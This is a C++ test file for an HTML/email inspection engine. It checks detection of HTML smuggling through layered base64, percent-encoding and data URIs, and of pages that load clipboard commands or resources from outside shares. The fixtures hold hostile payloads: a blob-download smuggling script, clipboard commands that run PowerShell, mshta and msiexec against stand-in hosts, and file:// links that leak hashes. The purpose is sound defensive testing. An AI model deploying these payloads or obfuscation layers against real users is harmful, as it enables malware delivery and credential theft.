// Pages whose script stands in a further layer of writing: what the browser reads in the end
// counts.
#include "inspect/page_layers.h"
#include "support/inspected.h"
#include "support/mail_builder.h"

#include <catch2/catch.hpp>
#include <fmt/format.h>

using namespace keneki;
using namespace keneki::test;
using evidence::Finding;
using evidence::NotInspected;

namespace {

const std::string building = "var f=new Blob([Uint8Array.from(atob('UEsDBBQAAAAI'),x)]);"
                             "location=URL.createObjectURL(f)";
const std::string building_page = "<html><body><script>" + building + "</script></body></html>";

std::string written(std::string_view text, const char* format) {
    std::string out;
    for (const char c : text)
        out += fmt::format(fmt::runtime(format), static_cast<unsigned char>(c));
    return out;
}

std::string encoded(std::string_view text) {
    return base64(text, "");
}

std::string script(const std::string& text) {
    return "<html><script>" + text + "</script></html>";
}

evidence::Evidence of_page(const std::string& content) {
    return inspected("a.html", content);
}

} // namespace

TEST_CASE("a script in a further layer of writing is read", "[inspect][html]") {
    const std::string svg =
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>" + building + "</script></svg>";
    const std::string content = GENERATE_COPY(values<std::string>({
        script("document.write(unescape('" + written(building_page, "%{:02x}") + "'))"),
        script("document.write(decodeURIComponent(\"" + written(building_page, "%{:02X}") + "\"))"),
        script("document.write(unescape('" + written(building_page, "%u00{:02x}") + "'))"),
        script("document.write(atob('" + encoded(building_page) + "'))"),
        script("eval(window['at'+'ob']('" + encoded(building) + "'))"),
        script("eval(atob('" + encoded("eval(atob('" + encoded(building) + "'))") + "'))"),
        script("eval(atob('" + encoded(building).substr(0, 40) + "' + '" +
               encoded(building).substr(40) + "'))"),
        "<script src='data:text/javascript;base64," + encoded(building) + "'></script>",
        "<script src=\"data:text/javascript," + written(building, "%{:02x}") + "\"></script>",
        "<iframe src='data:text/html;base64," + encoded(building_page) + "'></iframe>",
        "<html><embed src=\"data:image/svg+xml;base64," + encoded(svg) + "\"></html>",
        "<iframe srcdoc=\"" + written(building_page, "&#{};") + "\"></iframe>",
    }));
    const auto evidence = of_page(content);
    CAPTURE(content.substr(0, 200), words(evidence));
    CHECK(has(evidence, Finding::HTML_SMUGGLING));
}

TEST_CASE("a further layer of writing alone is ordinary", "[inspect][html]") {
    const std::string drawing =
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0L10 10\"/></svg>";
    const std::string content = GENERATE_COPY(values<std::string>({
        // How pages loaded Google Analytics for years.
        script("document.write(unescape(\"%3Cscript src='https://ssl.example/ga.js' "
               "type='text/javascript'%3E%3C/script%3E\"));"),
        "<html><img src=\"data:image/svg+xml;base64," + encoded(drawing) + "\"></html>",
        "<html><img src=\"data:image/png;base64," + encoded("\x89PNG" + std::string(300, '\1')) +
            "\"></html>",
        "<a href=\"https://clinic.example/?q=%E4%BA%88%E7%B4%84\">decodeURIComponent</a>",
        script("var t=atob('" + encoded("予約を受け付けました。" + std::string(80, ' ')) + "')"),
    }));
    const auto evidence = of_page(content);
    CAPTURE(content.substr(0, 200), words(evidence));
    CHECK(evidence.findings_size() == 1); // HTML_ATTACHMENT
    CHECK(evidence.not_inspected_size() == 0);
}

TEST_CASE("of a page three further layers are read, and it is told that there are more",
          "[inspect][limits][html]") {
    for (const std::size_t layers : {2U, 3U, 4U}) {
        std::string inner = building;
        for (std::size_t i = 0; i < layers; ++i)
            inner = "eval(atob('" + encoded(inner) + "'))";
        const auto evidence = of_page(script(inner));
        CAPTURE(layers, words(evidence));
        CHECK(has(evidence, Finding::HTML_SMUGGLING) == (layers <= 3));
        CHECK(unread(evidence, NotInspected::OVER_LIMIT) == (layers > 3));
    }
}

TEST_CASE("layers of a page are read up to their limit", "[inspect][limits][html]") {
    constexpr std::size_t limit = inspect::page_layers_limit_bytes;
    for (const std::size_t size : {limit - 3, limit, limit + 3}) {
        // Two texts, so that the page itself stays within its limit.
        std::string first = "<p>" + std::string(limit / 2 - 3, 'x');
        std::string second = "<p>" + std::string(size - first.size() - 3, 'x');
        const auto layers = inspect::page_layers("'" + encoded(first) + "' '" + encoded(second));
        CHECK(layers.whole == (size <= limit));
        CHECK(layers.text.size() <= limit + 16);
    }
}

TEST_CASE("a page cut off anywhere in its layers ends", "[inspect][limits][html]") {
    const std::string inner = script("eval(unescape('" + written(building_page, "%{:02x}") + "'))");
    const std::string page = script("eval(atob('" + encoded(inner) + "'))");
    for (std::size_t size = 64; size < page.size(); size += 64) {
        CAPTURE(size);
        CHECK_FALSE(has(of_page(page.substr(0, size)), Finding::INSPECTION_FAILED));
    }
    CHECK(has(of_page(page), Finding::HTML_SMUGGLING));
}

TEST_CASE("a page that puts a command into the clipboard is told", "[inspect][html]") {
    const std::string content = GENERATE(values<std::string>({
        "<button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c 1')\">",
        script("t.value='mshta https://192.0.2.1/a.mp4';t.select();document.execCommand('copy')"),
        script("document.execCommand( \"copy\" );var c='cmd /c start \\\\\\\\192.0.2.1\\\\a'"),
        script("navigator.clipboard.writeText(atob('" +
               encoded("powershell -w hidden iex(iwr http://192.0.2.1/a)     ") + "'))"),
        script("e.clipboardData.setData('text/plain','msiexec /i http://192.0.2.1/a.msi /qn')"),
    }));
    const auto evidence = of_page(content);
    CAPTURE(content, words(evidence));
    CHECK(has(evidence, Finding::DANGEROUS_OBJECT));
}

TEST_CASE("copying without a command, and a command without copying, are ordinary",
          "[inspect][html]") {
    const std::string content = GENERATE(values<std::string>({
        "<button onclick=\"navigator.clipboard.writeText('予約番号 1234')\">",
        "<p>Open PowerShell and type Get-Process; cmd /c dir does the same.</p>",
    }));
    const auto evidence = of_page(content);
    CAPTURE(content, words(evidence));
    CHECK_FALSE(has(evidence, Finding::DANGEROUS_OBJECT));
}

TEST_CASE("a page that loads from a share outside hands over the password's hash",
          "[inspect][html]") {
    const std::string content = GENERATE(values<std::string>({
        "<meta http-equiv=\"refresh\" content=\"0; url=file://192.0.2.1/share/a.txt\">",
        "<meta http-equiv='refresh' content='0;URL=\"file:////evil.example/a\"'>",
        "<img src=\"file://192.0.2.1/share/a.png\">",
        "<img src = '\\\\evil.example\\share\\a.png'>",
        "<img src=\\\\evil.example@80\\a.png>",
        "<link rel=stylesheet href=\"file://192.0.2.1/a.css\">",
        script("window.location.href = 'file://192.0.2.1/a'"),
        "<div style=\"background:url('file://192.0.2.1/a')\">",
    }));
    const auto evidence = of_page("<html>" + content + "</html>");
    CAPTURE(content, words(evidence));
    CHECK(has(evidence, Finding::DANGEROUS_OBJECT));
}

TEST_CASE("pages that Office wrote, or with pictures in the house, are ordinary",
          "[inspect][html]") {
    const std::string content = GENERATE(values<std::string>({
        "<link rel=File-List href=\"file:///C:/Users/a/filelist.xml\">",
        "<img src=\"file:///C:/Users/a/image001.png\">",
        "<img src=\"file://fileserver/logo.png\">",
        "<img src='\\\\fileserver\\share\\logo.png'>",
        "<img src=\"file://192.168.1.5/share/logo.png\">",
        "<a href=\"file://192.0.2.1/share/manual.pdf\">manual</a>",
        "<p>location: \\\\evil.example\\share</p>",
        "<img src=\"//cdn.example/logo.png\">",
    }));
    const auto evidence = of_page("<html>" + content + "</html>");
    CAPTURE(content, words(evidence));
    CHECK_FALSE(has(evidence, Finding::DANGEROUS_OBJECT));
}
